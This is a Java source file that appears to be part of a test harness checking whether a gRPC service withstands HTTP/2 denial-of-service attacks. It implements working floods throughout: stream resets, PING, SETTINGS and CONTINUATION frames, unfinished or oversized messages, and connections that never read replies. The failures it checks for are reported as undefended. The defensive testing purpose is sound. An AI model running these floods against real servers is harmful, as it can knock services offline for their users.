import com.google.protobuf.ByteString;
import com.google.protobuf.UnknownFieldSet;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** Attacks by frames of HTTP/2. */
final class Floods {
  private static final String STREAM_LEGS = "tollbridge.v1.LegRatingService/StreamLegs";
  private static final String IMPORT = "tollbridge.v1.TariffService/ImportRateDeck";
  private static final String RATE_CALLS = "tollbridge.v1.LegRatingService/RateCalls";
  private static final String HEALTH = "grpc.health.v1.Health/Check";
  private static final String LIST = "tollbridge.v1.TariffService/ListRates";
  private static final int LISTS = 300;
  private static final Duration FLOOD = Duration.ofSeconds(3);
  private static final Duration LIFE = Duration.ofSeconds(20);
  private static final int MOST_FRAMES = 300_000;
  private static final int BATCH = 100;
  private static final byte[] NOTHING = {};

  private Floods() {}

  /** Sends frames. */
  private interface Sender {
    void send(Http2 connection, int number) throws IOException;
  }

  /** Sends frames until the time is over or the connection is closed; returns how many. */
  private static int flood(Http2 connection, Sender sender) {
    long endNanos = System.nanoTime() + FLOOD.toNanos();
    int sent = 0;
    try {
      while (sent < MOST_FRAMES && System.nanoTime() < endNanos) {
        for (int i = 0; i < BATCH; i++) {
          sender.send(connection, sent++);
        }
        connection.flush();
      }
    } catch (IOException closed) {
      // That is what the server should do.
    }
    return sent;
  }

  /** What became of a flood that the server must cut off. */
  private static String cut(Http2 connection, int sent, String what) throws InterruptedException {
    if (!connection.endsWithin(Duration.ofSeconds(5))) {
      throw new Attack.Undefended(sent + " " + what + " sent, and the connection is still open");
    }
    return sent + " " + what + " sent before the connection was closed";
  }

  private static String survived(Http2 connection, int sent, String what) throws InterruptedException {
    return sent + " " + what + (connection.endsWithin(Duration.ofMillis(200)) ? ", closed by the server" : ", still open");
  }

  static String resets(Target target) throws Exception {
    byte[] headers = Http2.headers(STREAM_LEGS, Map.of());
    byte[] cancel = {0, 0, 0, 8};
    int sent = 0;
    for (int connections = 0; connections < 3; connections++) {
      try (Http2 connection = Http2.open(target, LIFE)) {
        int frames = flood(connection, (to, number) -> {
          int stream = 2 * number + 1;
          to.frame(Http2.HEADERS, Http2.END_HEADERS, stream, headers);
          to.frame(Http2.RST_STREAM, 0, stream, cancel);
        });
        cut(connection, frames, "resets");
        sent += frames;
      }
    }
    return sent + " resets on 3 connections before each was closed";
  }

  static String settings(Target target) throws Exception {
    try (Http2 connection = Http2.open(target, LIFE)) {
      byte[] setting = Http2.setting(1, 4096);
      return survived(connection, flood(connection, (to, _) -> to.frame(Http2.SETTINGS, 0, 0, setting)), "SETTINGS");
    }
  }

  static String pings(Target target) throws Exception {
    try (Http2 connection = Http2.open(target, LIFE)) {
      return cut(connection, flood(connection, (to, _) -> to.frame(Http2.PING, 0, 0, new byte[8])), "PING");
    }
  }

  static String unreadPings(Target target) throws Exception {
    Http2 connection = target.hold(Http2.deaf(target, FLOOD, 65_535));
    int sent = flood(connection, (to, _) -> to.frame(Http2.PING, 0, 0, new byte[8]));
    return sent + " PING";
  }

  static String continuations(Target target) throws Exception {
    try (Http2 connection = Http2.open(target, LIFE)) {
      connection.frame(Http2.HEADERS, 0, 1, Http2.headers(STREAM_LEGS, Map.of()));
      byte[] header = {0, 1, 'a', 1, 'b'};
      return cut(connection, flood(connection, (to, _) -> to.frame(Http2.CONTINUATION, 0, 1, header)), "CONTINUATION");
    }
  }

  static String emptyData(Target target) throws Exception {
    try (Http2 connection = Http2.open(target, LIFE)) {
      connection.call(1, STREAM_LEGS, Http2.END_HEADERS);
      return survived(connection, flood(connection, (to, _) -> to.frame(Http2.DATA, 0, 1, NOTHING)), "empty DATA");
    }
  }

  /** Calls that wait for a first message; as many as a connection may have. */
  static String silentCalls(Target target) throws Exception {
    for (int connections = 0; connections < 20; connections++) {
      Http2 connection = target.hold(Http2.open(target, Duration.ofMinutes(2)));
      for (int call = 0; call < 1_000; call++) {
        connection.call(2 * call + 1, STREAM_LEGS, Http2.END_HEADERS);
      }
      connection.flush();
    }
    return "20,000 calls on 20 connections";
  }

  /** Messages that are announced with 4 MB, and sent but for their last byte. */
  static String unfinished(Target target) throws Exception {
    int message = 4_000_000;
    int streams = 60;
    List<Http2> connections = new ArrayList<>();
    for (int i = 0; i < 5; i++) {
      Http2 connection = target.hold(Http2.open(target, Duration.ofSeconds(30)));
      connections.add(connection);
      for (int call = 0; call < streams; call++) {
        connection.call(2 * call + 1, IMPORT, Http2.END_HEADERS);
        connection.prefix(2 * call + 1, message);
      }
      connection.flush();
    }
    long sent = 0;
    long endNanos = System.nanoTime() + 2 * FLOOD.toNanos();
    int[] at = new int[connections.size() * streams];
    byte[] sendable = new byte[message - 1];
    while (System.nanoTime() < endNanos) {
      for (int i = 0; i < at.length; i++) {
        int more = more(connections.get(i / streams), i % streams, sendable, at[i]);
        at[i] += more;
        sent += more;
      }
      connections.getFirst().awaitFrame(Duration.ofMillis(5));
    }
    long cut = 0;
    for (Http2 connection : connections) {
      cut += connection.arrived(Http2.RST_STREAM) + connection.arrived(Http2.HEADERS);
    }
    return sent / 1_000_000 + " of 1,200 MB of 300 messages, " + cut + " calls ended by the server";
  }

  /** More calls to rate than can be rated at once, in large messages; the rates are not read. */
  static String unratedCalls(Target target) throws Exception {
    return messages(List.of(target.hold(Http2.open(target, Duration.ofSeconds(30), 0)),
        target.hold(Http2.open(target, Duration.ofSeconds(30), 0))), 990, RATE_CALLS, Calls.batchToRate());
  }

  /** Large requests that are complete, but for the word that nothing follows. */
  static String unendedCalls(Target target) throws Exception {
    List<Http2> connections = new ArrayList<>();
    for (int i = 0; i < 5; i++) {
      connections.add(target.hold(Http2.open(target, Duration.ofSeconds(30))));
    }
    byte[] request = UnknownFieldSet.newBuilder()
        .addField(100, UnknownFieldSet.Field.newBuilder().addLengthDelimited(ByteString.copyFrom(new byte[1_000_000])).build())
        .build().toByteArray();
    return messages(connections, 100, HEALTH, Http2.framed(request));
  }

  /** Sends a message on each of so many streams of each connection, some at a time, for a while. */
  private static String messages(List<Http2> connections, int streams, String method, byte[] message) throws Exception {
    long endNanos = System.nanoTime() + 2 * FLOOD.toNanos();
    long sent = 0;
    int[] at = new int[connections.size() * streams];
    int first = 0;
    int begun = 0;
    while (first < at.length && System.nanoTime() < endNanos) {
      for (; begun < Math.min(first + BATCH, at.length); begun++) {
        begin(connections.get(begun % connections.size()), begun / connections.size(), method);
      }
      for (int i = first; i < begun; i++) {
        int more = more(connections.get(i % connections.size()), i / connections.size(), message, at[i]);
        at[i] += more;
        sent += more;
      }
      while (first < begun && at[first] == message.length) {
        first++;
      }
      connections.getFirst().awaitFrame(Duration.ofMillis(1));
    }
    return sent / 1_000_000 + " of " + (long) at.length * message.length / 1_000_000 + " MB of " + at.length + " messages";
  }

  private static void begin(Http2 connection, int call, String method) {
    try {
      connection.call(2 * call + 1, method, Http2.END_HEADERS);
    } catch (IOException closed) {
      // That is what the server may do.
    }
  }

  private static int more(Http2 connection, int call, byte[] message, int from) {
    try {
      return connection.send(2 * call + 1, message, from);
    } catch (IOException closed) {
      return 0;
    }
  }

  static String oversize(Target target) throws Exception {
    try (Http2 connection = Http2.open(target, LIFE)) {
      for (int call = 0; call < 100; call++) {
        connection.call(2 * call + 1, call % 2 == 0 ? STREAM_LEGS : IMPORT, Http2.END_HEADERS);
        connection.prefix(2 * call + 1, Integer.MAX_VALUE);
        connection.fill(2 * call + 1, 16_384);
      }
      connection.flush();
      long endNanos = System.nanoTime() + FLOOD.toNanos();
      int refused = 0;
      while (refused < 100 && System.nanoTime() < endNanos) {
        connection.awaitFrame(Duration.ofMillis(50));
        refused = connection.arrived(Http2.HEADERS);
      }
      if (refused < 100) {
        throw new Attack.Undefended("only " + refused + " of 100 messages of 2 GiB were refused");
      }
      return "100 messages of 2 GiB refused";
    }
  }

  /** Calls of methods that do not exist: each error repeats the method's name. */
  static String unreadErrors(Target target) throws Exception {
    byte[] headers = Http2.headers("no.such.Service/" + "x".repeat(3_900), Map.of());
    return unread(target, 60, 65_535, 990, "errors",
        (to, call) -> to.frame(Http2.HEADERS, Http2.END_HEADERS | Http2.END_STREAM, 2 * call + 1, headers));
  }

  /** Calls on connections that read nothing. */
  private static String unread(Target target, int connections, int window, int calls, String what, Sender caller) {
    int closed = 0;
    for (int i = 0; i < connections; i++) {
      try {
        Http2 connection = target.hold(Http2.deaf(target, Duration.ofMinutes(2), window));
        for (int call = 0; call < calls; call++) {
          caller.send(connection, call);
        }
        connection.flush();
      } catch (IOException e) {
        closed++;
      }
    }
    return connections * calls + " " + what + " on " + connections + " connections, " + closed + " closed";
  }

  /** Asks for long lists over connections whose windows are closed, so that nothing can be sent. */
  static String unreadLists(Target target) throws Exception {
    byte[] request = Calls.longList(target);
    byte[] message = Http2.framed(request);
    return unread(target, 10, 0, LISTS, "lists", (to, call) -> {
      to.call(2 * call + 1, LIST, Http2.END_HEADERS);
      to.frame(Http2.DATA, Http2.END_STREAM, 2 * call + 1, message);
    });
  }
}
